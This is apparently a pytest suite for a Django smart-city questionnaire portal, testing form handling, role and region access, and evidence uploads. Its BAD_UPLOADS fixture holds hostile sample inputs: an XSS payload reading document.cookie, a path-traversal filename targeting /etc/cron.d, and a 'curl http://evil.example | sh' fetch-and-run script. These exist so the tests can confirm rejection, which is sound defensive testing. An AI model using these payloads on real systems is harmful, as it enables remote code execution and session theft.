"""The questionnaire pages: filling, submitting, reading, reopening, uploads and downloads; each
view refused to the wrong role and the wrong region."""

from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from assessment.forms_questionnaire import RupiahField
from assessment.models import Evidence, Questionnaire, QuestionnaireEvent, Regulation
from assessment.services.questionnaire import questionnaire_reopen, questionnaire_submit
from smartcity.storage import private_storage
from tests.assessment.url_expectations_questionnaire import (
    COMPLETE_ANSWERS,
    add_evidence,
    add_regulation,
    complete,
    invited_candidate,
    pdf_bytes,
    questionnaire_of,
    seat,
)
from tests.factories import CandidateFactory, CohortFactory, UserFactory

FORM_ANSWERS = {
    **COMPLETE_ANSWERS,
    "ict_budget": "Rp 1.250.000.000",
    "has_data_centre": "on",
}


@pytest.fixture(autouse=True)
def private_root(settings, tmp_path):
    """Each test stores its uploads in its own private root."""
    root = tmp_path / "private"
    settings.PRIVATE_MEDIA_ROOT = root
    settings.STORAGES = {
        **settings.STORAGES,
        "private": {**settings.STORAGES["private"], "OPTIONS": {"location": root}},
    }
    return root


@pytest.fixture
def candidate(world):
    return invited_candidate(world)


@pytest.fixture
def questionnaire(candidate):
    return questionnaire_of(candidate)


def page_url(candidate):
    return reverse("questionnaire", args=[candidate.pk])


def stored_files(root: Path) -> list[Path]:
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def submitted(questionnaire, world):
    complete(questionnaire, world.official)
    return questionnaire_submit(questionnaire=questionnaire, by=world.official)


# --- the Rupiah field -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "typed",
    ["Rp 1.250.000", "1250000", "Rp1.250.000", "rp. 1.250.000,00", " 1 250 000 ", "1.250.000"],
)
def test_a_rupiah_amount_is_read_the_way_people_write_it(typed):
    assert RupiahField(required=False).clean(typed) == Decimal(1_250_000)


@pytest.mark.parametrize("typed", ["1,250,000", "satu juta", "Rp -5", "1.250.000,50", "١٢٣"])
def test_a_rupiah_amount_that_could_be_misread_is_refused(typed):
    with pytest.raises(ValidationError, match="Tulis jumlah dalam rupiah"):
        RupiahField(required=False).clean(typed)


def test_an_empty_rupiah_amount_is_no_answer():
    assert RupiahField(required=False).clean("  ") is None


def test_a_saved_amount_is_shown_with_thousands_dots():
    assert RupiahField().prepare_value(Decimal(1_250_000)) == "1.250.000"


# --- filling the questionnaire --------------------------------------------------------------


def test_the_official_opens_their_questionnaire_with_the_four_sections(client, world, candidate):
    client.force_login(world.official)

    response = client.get(page_url(candidate))

    assert response.status_code == 200
    for heading in ("Visi dan komitmen kepala daerah", "Struktur", "Infrastruktur"):
        assert heading in response.text
    assert "Suprastruktur" in response.text
    assert "0 dari 4 bagian lengkap" in response.text
    assert "Simpan draf" in response.text and "Ajukan" in response.text
    assert Questionnaire.objects.get().candidate == candidate


def test_saving_a_draft_stores_the_answers_and_the_budget_in_rupiah(client, world, candidate):
    client.force_login(world.official)

    response = client.post(page_url(candidate), {**FORM_ANSWERS, "action": "save"}, follow=True)

    assert "Draf kuesioner disimpan." in response.text
    questionnaire = Questionnaire.objects.get()
    assert questionnaire.status == Questionnaire.Status.DRAFT
    assert questionnaire.ict_budget == Decimal(1_250_000_000)
    assert questionnaire.leader_vision == COMPLETE_ANSWERS["leader_vision"]
    assert questionnaire.has_data_centre is True
    assert 'value="1.250.000.000"' in response.text  # shown back as it was typed
    assert "4 dari 4 bagian lengkap" in response.text  # institutions stand in for regulations


def test_an_invalid_draft_comes_back_with_what_was_typed_and_the_errors(
    client, world, questionnaire
):
    client.force_login(world.official)
    typed = {**FORM_ANSWERS, "network_coverage": "150", "ict_budget": "satu miliar"}

    response = client.post(page_url(questionnaire.candidate), {**typed, "action": "save"})

    assert response.status_code == 200
    assert "Pastikan nilai ini lebih kecil dari atau sama dengan 100" in response.text
    assert "Tulis jumlah dalam rupiah" in response.text
    assert COMPLETE_ANSWERS["leader_vision"] in response.text  # nothing typed is lost
    assert 'value="satu miliar"' in response.text
    questionnaire.refresh_from_db()
    assert questionnaire.leader_vision == ""  # and nothing was saved


def test_more_trained_staff_than_staff_is_refused(client, world, questionnaire):
    client.force_login(world.official)
    typed = {**FORM_ANSWERS, "ict_staff": "5", "ict_trained_staff": "9", "action": "save"}

    response = client.post(page_url(questionnaire.candidate), typed)

    assert "Tidak boleh melebihi jumlah SDM TIK (5)" in response.text


def test_submitting_an_incomplete_questionnaire_saves_it_and_lists_what_is_missing(
    client, world, questionnaire
):
    client.force_login(world.official)

    response = client.post(
        page_url(questionnaire.candidate),
        {"leader_name": "Etik Suryani", "ict_staff": "4", "action": "submit"},
    )

    assert response.status_code == 200
    assert "Kuesioner belum dapat diajukan. Lengkapi dahulu:" in response.text
    for item in (
        "visi smart city kepala daerah",
        "cakupan jaringan internet",
        "minimal satu regulasi, atau penjelasan kelembagaan pendukung",
    ):
        assert f"<li>{item}</li>" in response.text
    assert "<li>jumlah SDM TIK</li>" not in response.text
    questionnaire.refresh_from_db()
    assert (questionnaire.leader_name, questionnaire.ict_staff) == ("Etik Suryani", 4)
    assert questionnaire.status == Questionnaire.Status.DRAFT


def test_submitting_a_complete_questionnaire_freezes_it_and_shows_it_read_only(
    client, world, questionnaire
):
    add_regulation(questionnaire, world.official)
    add_evidence(questionnaire, world.official)
    client.force_login(world.official)

    response = client.post(
        page_url(questionnaire.candidate), {**FORM_ANSWERS, "action": "submit"}, follow=True
    )

    assert "Kuesioner diajukan." in response.text
    questionnaire.refresh_from_db()
    assert questionnaire.status == Questionnaire.Status.SUBMITTED
    assert questionnaire.submitted_by == world.official
    assert "Simpan draf" not in response.text and "Unggah bukti" not in response.text
    assert "diajukan " in response.text and "oleh pemda-a" in response.text
    assert "Rp 1.250.000.000" in response.text
    assert "Penyelenggaraan Smart City" in response.text  # the regulation
    assert "SK Dewan Smart City.pdf" in response.text  # the evidence, as a download link
    assert "4 dari 4 bagian lengkap" in response.text
    assert "sudah diajukan dan tidak dapat diubah" in response.text


def test_a_save_posted_after_submitting_is_refused_and_keeps_the_input(
    client, world, questionnaire
):
    submitted(questionnaire, world)
    client.force_login(world.official)

    response = client.post(
        page_url(questionnaire.candidate),
        {**FORM_ANSWERS, "leader_name": "Orang Lain", "action": "save"},
    )

    assert response.status_code == 200
    assert "sudah diajukan dan tidak dapat diubah" in response.text
    assert 'value="Orang Lain"' in response.text
    questionnaire.refresh_from_db()
    assert questionnaire.leader_name == "Etik Suryani"


def test_after_the_deadline_a_draft_is_shown_read_only_with_the_reason(
    client, world, questionnaire
):
    cohort = questionnaire.candidate.cohort
    cohort.questionnaire_deadline = "2018-02-28T23:59:00+07:00"
    cohort.save()
    client.force_login(world.official)

    response = client.get(page_url(questionnaire.candidate))

    assert "Batas pengisian kuesioner (28 Feb 2018, 23.59 WIB) sudah lewat." in response.text
    assert "Simpan draf" not in response.text


def test_a_reopened_questionnaire_shows_the_reason_and_is_editable_again(
    client, world, questionnaire
):
    submitted(questionnaire, world)
    questionnaire_reopen(questionnaire=questionnaire, by=world.staff, reason="Lampirkan SK.")
    client.force_login(world.official)

    response = client.get(page_url(questionnaire.candidate))

    assert "Dibuka kembali oleh Kominfo" in response.text and "Lampirkan SK." in response.text
    assert "Simpan draf" in response.text


def test_the_page_takes_a_fixed_number_of_queries(
    client, world, questionnaire, django_assert_num_queries
):
    for section in ("vision", "struktur", "infrastruktur", "suprastruktur"):
        add_evidence(questionnaire, world.official, section=section)
        add_regulation(questionnaire, world.official)
    submitted(questionnaire, world)
    client.force_login(world.official)
    url = page_url(questionnaire.candidate)

    with django_assert_num_queries(8):
        # 1-2 the session and the user
        # 3 the candidate, among those of the user's region (access)
        # 4 the questionnaire (get_or_create finds it)
        # 5 the questionnaire with candidate, region, province, cohort and submitter
        # 6 its regulations  7 its evidence  8 its events with their authors
        response = client.get(url)
    assert response.status_code == 200


# --- regulations ----------------------------------------------------------------------------


def test_the_official_adds_and_removes_a_regulation(client, world, questionnaire):
    client.force_login(world.official)
    url = reverse("questionnaire_regulation_add", args=[questionnaire.candidate_id])

    response = client.post(
        url, {"kind": "perda", "number": "5", "year": "2017", "title": "E-Government"}, follow=True
    )

    regulation = Regulation.objects.get()
    assert "Regulasi Peraturan Daerah (Perda) 5/2017 ditambahkan." in response.text
    assert "E-Government" in response.text

    remove = reverse(
        "questionnaire_regulation_remove", args=[questionnaire.candidate_id, regulation.pk]
    )
    response = client.post(remove, follow=True)

    assert "dihapus" in response.text
    assert not Regulation.objects.exists()


def test_an_invalid_regulation_comes_back_with_what_was_typed(client, world, questionnaire):
    client.force_login(world.official)
    url = reverse("questionnaire_regulation_add", args=[questionnaire.candidate_id])

    response = client.post(
        url, {"kind": "perda", "number": "5", "year": "1900", "title": "Tata Kelola TIK"}
    )

    assert response.status_code == 200
    assert "Pastikan nilai ini lebih besar dari atau sama dengan 1945" in response.text
    assert 'value="Tata Kelola TIK"' in response.text
    assert not Regulation.objects.exists()


def test_an_official_cannot_remove_another_regions_regulation_through_their_own_page(
    client, world, questionnaire
):
    other = questionnaire_of(invited_candidate(world, region=world.other_region))
    theirs = add_regulation(other, world.other_official)
    client.force_login(world.official)

    url = reverse("questionnaire_regulation_remove", args=[questionnaire.candidate_id, theirs.pk])
    assert client.post(url).status_code == 404
    assert Regulation.objects.filter(pk=theirs.pk).exists()


# --- evidence uploads -----------------------------------------------------------------------

BAD_UPLOADS = {
    "a renamed executable": (
        "laporan-anggaran.pdf",
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00 This program cannot be run in DOS mode.",
        "Berkas bukan PDF atau gambar (JPEG/PNG) yang sah.",
    ),
    "HTML behind a PDF header": (
        "bukti.pdf",
        b"%PDF-1.7\n<html><body><script>alert(document.cookie)</script></body></html>\n%%EOF\n",
        "Berkas bukan PDF yang sah.",
    ),
    "an empty file": ("kosong.pdf", b"", "Berkas yang dikirimkan kosong."),
    "an oversized file": (
        "besar.pdf",
        b"%PDF-1.7\n" + b"0" * (10 * 1024 * 1024),
        "Berkas terlalu besar (maks. 10 MB).",
    ),
    "a path-traversal name on a script": (
        "../../../../etc/cron.d/portal.pdf",
        b"#!/bin/sh\ncurl http://evil.example | sh\n",
        "Berkas bukan PDF atau gambar (JPEG/PNG) yang sah.",
    ),
    "a name that is only a path": ("..", pdf_bytes(), "Bidang ini tidak boleh kosong."),
}


def post_upload(client, url, *, filename, content, **fields):
    """POST a multipart body by hand: the test client would strip a path from the file name
    itself, and what matters is what the portal does with the name a browser (or an attacker)
    actually sends."""
    boundary = "portal-test-boundary-7"
    parts = [
        f'--{boundary}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n'.encode()
        for key, value in fields.items()
    ]
    parts.append(
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="{filename}"\r\n'
        "Content-Type: application/pdf\r\n\r\n".encode()
        + content
        + b"\r\n"
    )
    parts.append(f"--{boundary}--\r\n".encode())
    return client.post(
        url, data=b"".join(parts), content_type=f"multipart/form-data; boundary={boundary}"
    )


@pytest.mark.parametrize("case", BAD_UPLOADS, ids=list(BAD_UPLOADS))
def test_a_refused_upload_is_explained_on_the_page_and_nothing_is_stored(
    client, world, questionnaire, private_root, case
):
    name, content, error = BAD_UPLOADS[case]
    client.force_login(world.official)
    url = reverse("questionnaire_evidence_add", args=[questionnaire.candidate_id])

    response = post_upload(
        client, url, filename=name, content=content, section="struktur", description="Anggaran TIK"
    )

    assert response.status_code == 200
    assert error in response.text
    assert 'value="Anggaran TIK"' in response.text  # the description is kept
    assert not Evidence.objects.exists()
    assert stored_files(private_root) == []
    assert not (private_root.parent / "etc").exists()


def test_a_valid_pdf_is_stored_under_the_private_root_and_under_no_url(
    client, world, questionnaire, private_root
):
    client.force_login(world.official)
    url = reverse("questionnaire_evidence_add", args=[questionnaire.candidate_id])
    content = pdf_bytes()

    response = post_upload(
        client,
        url,
        filename="../../../private/evidence/Visi Bupati.pdf",
        content=content,
        section="vision",
        description="Paparan visi",
    )
    response = client.get(response.url)

    evidence = Evidence.objects.get()
    assert (evidence.section, evidence.original_name) == ("vision", "Visi Bupati.pdf")
    path = Path(private_storage().path(evidence.file))
    assert path.is_relative_to(private_root) and path.read_bytes() == content
    for public in (settings.MEDIA_ROOT, settings.STATIC_ROOT, settings.BASE_DIR / "static"):
        assert not path.is_relative_to(Path(public))
    with pytest.raises(ValueError):
        private_storage().url(evidence.file)
    assert "Bukti “Visi Bupati.pdf” diunggah." in response.text
    assert reverse("evidence_download", args=[evidence.pk]) in response.text
    assert evidence.file not in response.text  # the stored name never reaches the page


def test_an_upload_to_an_unknown_section_is_refused(client, world, questionnaire):
    client.force_login(world.official)
    url = reverse("questionnaire_evidence_add", args=[questionnaire.candidate_id])

    response = client.post(
        url, {"section": "keuangan", "file": SimpleUploadedFile("a.pdf", pdf_bytes())}, follow=True
    )

    assert "Bagian kuesioner tidak dikenal." in response.text
    assert not Evidence.objects.exists()


def test_the_official_removes_evidence_and_its_file(
    client, world, questionnaire, private_root, django_capture_on_commit_callbacks
):
    evidence = add_evidence(questionnaire, world.official)
    client.force_login(world.official)

    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("evidence_remove", args=[evidence.pk]), follow=True)

    assert "dihapus" in response.text
    assert not Evidence.objects.exists() and stored_files(private_root) == []


def test_evidence_of_a_submitted_questionnaire_cannot_be_removed(client, world, questionnaire):
    evidence = add_evidence(questionnaire, world.official)
    submitted(questionnaire, world)
    client.force_login(world.official)

    response = client.post(reverse("evidence_remove", args=[evidence.pk]), follow=True)

    assert "sudah diajukan dan tidak dapat diubah" in response.text
    assert Evidence.objects.filter(pk=evidence.pk).exists()


def test_an_upload_or_regulation_posted_after_submitting_is_refused_with_a_message(
    client, world, questionnaire, private_root
):
    submitted(questionnaire, world)
    client.force_login(world.official)
    candidate_id = questionnaire.candidate_id

    upload = client.post(
        reverse("questionnaire_evidence_add", args=[candidate_id]),
        {"section": "vision", "file": SimpleUploadedFile("a.pdf", pdf_bytes())},
        follow=True,
    )
    regulation = client.post(
        reverse("questionnaire_regulation_add", args=[candidate_id]),
        {"kind": "perda", "number": "5", "year": "2017", "title": "E-Government"},
        follow=True,
    )

    for response in (upload, regulation):
        assert "sudah diajukan dan tidak dapat diubah" in response.text
        assert "Unggah bukti" not in response.text  # back on the read-only page
    assert not Evidence.objects.exists() and not Regulation.objects.exists()
    assert stored_files(private_root) == []


# --- downloads ------------------------------------------------------------------------------


def test_the_download_is_a_private_attachment_that_is_never_sniffed(client, world, questionnaire):
    evidence = add_evidence(questionnaire, world.official)
    client.force_login(world.official)

    response = client.get(reverse("evidence_download", args=[evidence.pk]))

    assert response.status_code == 200
    assert b"".join(response.streaming_content) == pdf_bytes()
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["Content-Disposition"] == 'attachment; filename="SK Dewan Smart City.pdf"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Cache-Control"] == "private, no-store"


@pytest.mark.parametrize("role", ["staff", "official", "assessor"])
def test_staff_the_regions_officials_and_seated_assessors_download_evidence(
    client, world, questionnaire, role
):
    seat(world, questionnaire.candidate)
    evidence = add_evidence(questionnaire, world.official)
    submitted(questionnaire, world)
    client.force_login(world.user(role))

    response = client.get(reverse("evidence_download", args=[evidence.pk]))

    assert response.status_code == 200
    response.close()


def test_a_seated_assessor_sees_neither_a_draft_questionnaire_nor_its_evidence(
    client, world, questionnaire
):
    seat(world, questionnaire.candidate)
    evidence = add_evidence(questionnaire, world.official)
    client.force_login(world.assessor)

    assert client.get(page_url(questionnaire.candidate)).status_code == 404
    assert client.get(reverse("evidence_download", args=[evidence.pk])).status_code == 404
    submitted(questionnaire, world)
    assert client.get(page_url(questionnaire.candidate)).status_code == 200


@pytest.mark.parametrize(
    "role", ["other_official", "mentor", "other_mentor", "partner", "assessor"]
)
def test_evidence_is_not_found_for_anyone_else(client, world, questionnaire, role):
    # The world's assessor is not seated on Sukoharjo's panel here.
    other_seat_holder = UserFactory(username="asesor-lain", assessor=True)
    seat(world, questionnaire.candidate, assessor=other_seat_holder)
    evidence = add_evidence(questionnaire, world.official)
    client.force_login(world.user(role))

    assert client.get(reverse("evidence_download", args=[evidence.pk])).status_code == 404


def test_anonymous_visitors_are_sent_to_log_in_before_a_download(client, world, questionnaire):
    evidence = add_evidence(questionnaire, world.official)

    response = client.get(reverse("evidence_download", args=[evidence.pk]))

    assert response.status_code == 302 and response.url.startswith(reverse("login"))


def test_a_missing_evidence_is_not_found(client, world):
    client.force_login(world.staff)
    assert client.get(reverse("evidence_download", args=[987654])).status_code == 404


# --- who may read the page ------------------------------------------------------------------


def test_staff_read_the_questionnaire_and_may_reopen_it_once_submitted(
    client, world, questionnaire
):
    client.force_login(world.staff)

    draft = client.get(page_url(questionnaire.candidate))
    submitted(questionnaire, world)
    after = client.get(page_url(questionnaire.candidate))

    assert draft.status_code == 200 and "Simpan draf" not in draft.text
    assert "Buka kembali kuesioner" not in draft.text
    assert "Buka kembali kuesioner" in after.text
    assert COMPLETE_ANSWERS["leader_vision"] in after.text


def test_an_assessor_on_the_panel_reads_the_questionnaire(client, world, questionnaire):
    seat(world, questionnaire.candidate)
    submitted(questionnaire, world)
    client.force_login(world.assessor)

    response = client.get(page_url(questionnaire.candidate))

    assert response.status_code == 200
    assert COMPLETE_ANSWERS["leader_vision"] in response.text
    assert "Simpan draf" not in response.text and "Buka kembali" not in response.text


def test_an_assessor_off_the_panel_gets_not_found(client, world, questionnaire):
    client.force_login(world.assessor)
    assert client.get(page_url(questionnaire.candidate)).status_code == 404


def test_another_regions_official_gets_not_found(client, world, questionnaire):
    client.force_login(world.other_official)
    assert client.get(page_url(questionnaire.candidate)).status_code == 404
    assert Questionnaire.objects.count() == 1  # nothing was created for them either


@pytest.mark.parametrize("role", ["mentor", "partner"])
def test_mentors_and_partners_are_forbidden_the_page(client, world, questionnaire, role):
    client.force_login(world.user(role))
    assert client.get(page_url(questionnaire.candidate)).status_code == 403


def test_anonymous_visitors_are_sent_to_log_in(client, world, questionnaire):
    response = client.get(page_url(questionnaire.candidate))
    assert response.status_code == 302 and response.url.startswith(reverse("login"))


# --- who may write --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("role", "status"),
    [("staff", 404), ("assessor", 404), ("other_official", 404), ("mentor", 403)],
)
def test_only_the_regions_officials_may_save_it(client, world, questionnaire, role, status):
    seat(world, questionnaire.candidate)
    client.force_login(world.user(role))

    response = client.post(page_url(questionnaire.candidate), {**FORM_ANSWERS, "action": "save"})

    assert response.status_code == status
    questionnaire.refresh_from_db()
    assert questionnaire.leader_vision == ""


@pytest.mark.parametrize(
    ("role", "status"),
    [("staff", 403), ("assessor", 403), ("other_official", 404), ("partner", 403)],
)
def test_only_the_regions_officials_may_add_regulations_or_evidence(
    client, world, questionnaire, private_root, role, status
):
    client.force_login(world.user(role))
    regulation_url = reverse("questionnaire_regulation_add", args=[questionnaire.candidate_id])
    evidence_url = reverse("questionnaire_evidence_add", args=[questionnaire.candidate_id])

    regulation = {"kind": "perda", "number": "1", "year": "2017", "title": "X"}
    evidence = {"section": "vision", "file": SimpleUploadedFile("a.pdf", pdf_bytes())}
    assert client.post(regulation_url, regulation).status_code == status
    assert client.post(evidence_url, evidence).status_code == status
    assert not Regulation.objects.exists() and not Evidence.objects.exists()
    assert stored_files(private_root) == []


@pytest.mark.parametrize(
    ("role", "status"),
    [("staff", 403), ("assessor", 403), ("other_official", 404), ("mentor", 403)],
)
def test_only_the_regions_officials_may_remove_regulations_or_evidence(
    client, world, questionnaire, role, status
):
    regulation = add_regulation(questionnaire, world.official)
    evidence = add_evidence(questionnaire, world.official)
    client.force_login(world.user(role))

    remove_regulation = reverse(
        "questionnaire_regulation_remove", args=[questionnaire.candidate_id, regulation.pk]
    )
    assert client.post(remove_regulation).status_code == status
    assert client.post(reverse("evidence_remove", args=[evidence.pk])).status_code == status
    assert Regulation.objects.exists() and Evidence.objects.exists()


# --- reopening ------------------------------------------------------------------------------


def test_staff_reopen_with_a_reason_and_come_back_to_the_page(client, world, questionnaire):
    submitted(questionnaire, world)
    client.force_login(world.staff)
    url = reverse("questionnaire_reopen", args=[questionnaire.candidate_id])

    response = client.post(url, {"reason": "Lampirkan SK Dewan Smart City."})

    assert response.status_code == 302 and response.url == page_url(questionnaire.candidate)
    questionnaire.refresh_from_db()
    assert questionnaire.status == Questionnaire.Status.REOPENED
    page = client.get(response.url)
    assert "Kuesioner dibuka kembali" in page.text
    assert "Lampirkan SK Dewan Smart City." in page.text  # in the history


def test_the_reopen_page_says_what_changes_before_anything_does(client, world, questionnaire):
    seat(world, questionnaire.candidate)
    submitted(questionnaire, world)
    client.force_login(world.staff)
    page = client.get(page_url(questionnaire.candidate)).text
    url = reverse("questionnaire_reopen", args=[questionnaire.candidate_id])

    response = client.get(url)

    text = " ".join(response.text.split())
    assert f'href="{url}"' in page and f'action="{url}"' not in page
    assert (
        "Kuesioner Kabupaten Sukoharjo (33.11) angkatan 2018 dibuka kembali; alasan wajib." in text
    )
    assert "Pejabat Kabupaten Sukoharjo dapat lagi mengubah jawaban, regulasi dan bukti" in text
    assert "1 asesor panelnya tetap dapat membacanya; 0 lembar nilai" in text
    questionnaire.refresh_from_db()
    assert questionnaire.status == Questionnaire.Status.SUBMITTED


def test_a_refused_reason_comes_back_as_typed(client, world, questionnaire):
    submitted(questionnaire, world)
    client.force_login(world.staff)
    url = reverse("questionnaire_reopen", args=[questionnaire.candidate_id])
    typed = "Lampirkan SK Dewan Smart City. " * 70  # more than 2,000 characters

    response = client.post(url, {"reason": typed})

    assert response.status_code == 200
    assert typed.strip() in response.text
    questionnaire.refresh_from_db()
    assert questionnaire.status == Questionnaire.Status.SUBMITTED


def test_reopening_without_a_reason_is_refused_with_a_message(client, world, questionnaire):
    submitted(questionnaire, world)
    client.force_login(world.staff)
    url = reverse("questionnaire_reopen", args=[questionnaire.candidate_id])

    response = client.post(url, {"reason": "  "}, follow=True)

    assert "Tuliskan alasan membuka kembali kuesioner." in response.text
    questionnaire.refresh_from_db()
    assert questionnaire.status == Questionnaire.Status.SUBMITTED


def test_reopening_a_draft_explains_why_not(client, world, questionnaire):
    client.force_login(world.staff)
    url = reverse("questionnaire_reopen", args=[questionnaire.candidate_id])

    page = client.get(url, follow=True)
    response = client.post(url, {"reason": "Perbaiki."}, follow=True)

    assert page.redirect_chain[-1][0] == page_url(questionnaire.candidate)
    assert "tidak dapat menjadi Dibuka kembali" in page.text
    assert "tidak dapat menjadi Dibuka kembali" in response.text
    assert not QuestionnaireEvent.objects.exists()


@pytest.mark.parametrize("role", ["official", "other_official", "assessor", "mentor", "partner"])
def test_only_staff_may_reopen(client, world, questionnaire, role):
    submitted(questionnaire, world)
    seat(world, questionnaire.candidate)
    client.force_login(world.user(role))
    url = reverse("questionnaire_reopen", args=[questionnaire.candidate_id])

    assert client.get(url).status_code == 403
    assert client.post(url, {"reason": "Perbaiki."}).status_code == 403
    questionnaire.refresh_from_db()
    assert questionnaire.status == Questionnaire.Status.SUBMITTED


def test_staff_reopening_a_questionnaire_that_does_not_exist_get_not_found(client, world):
    candidate = invited_candidate(world)  # never opened by its officials
    client.force_login(world.staff)
    url = reverse("questionnaire_reopen", args=[candidate.pk])

    assert client.post(url, {"reason": "Perbaiki."}).status_code == 404


# --- the official's home page ---------------------------------------------------------------


def test_the_officials_home_links_to_the_questionnaire_to_fill(client, world, candidate):
    client.force_login(world.official)

    response = client.get(reverse("official_home"))

    assert "Belum diisi" in response.text
    assert "Isi kuesioner kesiapan" in response.text
    assert page_url(candidate) in response.text


def test_the_officials_home_shows_a_submitted_questionnaire_to_view(client, world, questionnaire):
    submitted(questionnaire, world)
    client.force_login(world.official)

    response = client.get(reverse("official_home"))

    assert "Diajukan" in response.text and "Lihat kuesioner" in response.text
    assert "Isi kuesioner kesiapan" not in response.text


def test_the_officials_home_takes_the_same_queries_for_one_or_many_candidacies(
    client, world, questionnaire, django_assert_num_queries
):
    client.force_login(world.official)
    with django_assert_num_queries(8) as one:
        # 1-2 the session and the user  3 the official's region with its province
        # 4 the candidacies with their cohorts, questionnaires and MoUs  5 the region's plans
        # 6 published screening lines  7 the quick wins it follows  8 the open evaluation
        # cycles with the region's self-assessment (see portal/official.py)
        client.get(reverse("official_home"))
    questionnaire_of(CandidateFactory(cohort=CohortFactory(year=2019), region=world.region))
    CandidateFactory(cohort=CohortFactory(year=2020), region=world.region)  # never opened

    with django_assert_num_queries(len(one.captured_queries)):
        response = client.get(reverse("official_home"))
    assert response.text.count(">Isi kuesioner kesiapan</a>") == 3  # one link per candidacy
